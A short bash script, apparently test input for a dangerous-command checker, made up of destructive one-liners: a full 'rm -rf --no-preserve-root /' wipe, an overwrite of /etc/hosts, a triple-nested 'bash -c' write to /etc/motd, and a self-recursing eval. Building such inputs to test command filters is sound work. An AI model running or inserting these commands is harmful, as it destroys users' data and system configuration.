#!/bin/bash
bash -c "rm -rf --no-preserve-root /"
sh -c "echo x > /etc/hosts"
bash -c "bash -c \"bash -c \\\"echo x > /etc/motd\\\"\""
s="bash -c \"\$s\""; eval "$s"
